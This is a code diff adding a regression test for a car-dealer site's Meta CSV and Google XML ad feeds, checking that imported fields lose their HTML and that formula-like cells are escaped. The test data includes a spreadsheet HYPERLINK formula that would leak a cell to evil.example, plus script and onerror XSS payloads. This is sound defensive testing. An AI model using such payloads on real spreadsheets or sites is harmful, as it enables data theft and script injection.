@@ -1,6 +1,7 @@
 import { mkdtemp, readdir, rm } from "node:fs/promises";
 import { tmpdir } from "node:os";
 import path from "node:path";
+import { XMLParser } from "fast-xml-parser";
 import Papa from "papaparse";
 import { NextRequest } from "next/server";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
@@ -40,8 +41,8 @@ afterAll(async () => {
   await rm(dataDir, { recursive: true, force: true });
 });
 
-async function get(route: typeof googleFeed, file: string, headers: Record<string, string> = {}) {
-  const response = await route(new NextRequest(`http://${host}/feeds/${file}`, { headers: { host, ...headers } }), { params: Promise.resolve({ host }) });
+async function get(route: typeof googleFeed, file: string, headers: Record<string, string> = {}, on = host) {
+  const response = await route(new NextRequest(`http://${on}/feeds/${file}`, { headers: { host: on, ...headers } }), { params: Promise.resolve({ host: on }) });
   return { status: response.status, headers: response.headers, text: await response.text() };
 }
 
@@ -81,5 +82,38 @@ describe("the site's vehicle-ads feeds", () => {
     expect(moved.text).toContain(`<g:id>${fx.alpha.id}-U1007</g:id>`);
     // The old version's file is gone; one file per site and feed is kept.
     expect((await readdir(path.join(dataDir, "feeds"))).filter((f) => f.startsWith("alpha-google-"))).toHaveLength(1);
+  });
+
+  // Issue 30: a dealer's colour was a spreadsheet formula, and its comments and title HTML.
+  it("carry plain text in every field, and no CSV cell a spreadsheet would run as a formula", async () => {
+    const hostile = feedRow(8, {
+      name: "<i>2021 Toyota RAV4</i> <b>GXL</b>", colour: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")', badge: "@SUM(1+1)",
+      dealercomments: "<p>Great <b>car</b></p><p>One owner</p><script>alert(1)</script><img src=x onerror=alert(1)>|Service &amp; &lt;b&gt;history&lt;/b&gt;",
+    });
+    await importStock(handle, [fx.bravo], records([feedRow(9), hostile]), options);
+    const bravo = "bravo.localhost:3000";
+    const meta = Papa.parse<Record<string, string>>((await get(metaFeed, "meta-automotive.csv", {}, bravo)).text, { header: true, skipEmptyLines: true }).data;
+    const row = meta.find((r) => r.vehicle_id === `${fx.bravo.id}-U1008`);
+    expect(row).toMatchObject({
+      title: "2021 Toyota RAV4 GXL", exterior_color: `'=HYPERLINK("https://evil.example/?leak="&A1,"Click")`, trim: "'@SUM(1+1)",
+      description: "Great car One owner Service & history",
+    });
+    for (const cell of meta.flatMap((r) => Object.values(r))) {
+      expect(cell).not.toMatch(/<[a-z/!]|&(amp|lt|gt|quot|#\d+);/i);
+      expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
+    }
+    const google = (await get(googleFeed, "google-vehicle-listings.xml", {}, bravo)).text;
+    const item = google.slice(google.indexOf(`<g:id>${fx.bravo.id}-U1008</g:id>`));
+    expect(item).toContain("<g:title>2021 Toyota RAV4 GXL</g:title>");
+    expect(item).toContain("<g:description>Great car One owner Service &amp; history</g:description>");
+    // Every element's text, read as XML, is plain: no markup or entities of the dealer's.
+    const texts: string[] = [];
+    const collect = (node: unknown): void => {
+      if (typeof node === "string") texts.push(node);
+      else if (node && typeof node === "object") Object.values(node).forEach(collect);
+    };
+    collect(new XMLParser({ parseTagValue: false }).parse(google));
+    expect(texts).toContain('=HYPERLINK("https://evil.example/?leak="&A1,"Click")');
+    for (const text of texts) expect(text).not.toMatch(/<[a-z/!]|&(amp|lt|gt|quot|#\d+);|onerror|alert\(/i);
   });
 });
